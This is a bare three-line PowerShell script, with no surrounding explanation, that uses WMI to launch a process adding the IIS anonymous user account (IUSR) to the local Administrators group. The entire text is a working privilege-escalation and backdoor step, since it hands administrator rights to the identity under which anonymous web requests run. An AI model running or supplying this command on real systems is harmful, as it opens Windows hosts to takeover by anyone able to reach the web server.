$l = New-Object -ComObject WbemScripting.SWbemLocator
$s = $l.ConnectServer('.','root\cimv2')
$s.Get('Win32_Process').Create('net localgroup Administrators IUSR /add')
